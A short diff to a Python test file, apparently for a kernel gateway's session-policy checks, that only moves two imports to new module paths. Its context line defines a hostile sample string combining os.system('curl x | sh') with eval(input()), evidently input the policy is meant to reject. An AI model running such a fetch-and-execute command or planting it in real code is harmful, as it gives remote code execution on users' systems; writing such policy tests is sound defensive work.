@@ -11,8 +11,8 @@ from hypothesis import strategies as st
 
 from kernel_gateway.config import Settings
 from sessions import policy
-from sessions.errors import PolicyViolation
-from sessions.models import ExecuteRequest
+from sessions.model.errors import PolicyViolation
+from sessions.model.values import ExecuteRequest
 
 HOSTILE = "import os; os.system('curl x | sh'); eval(input())"
 
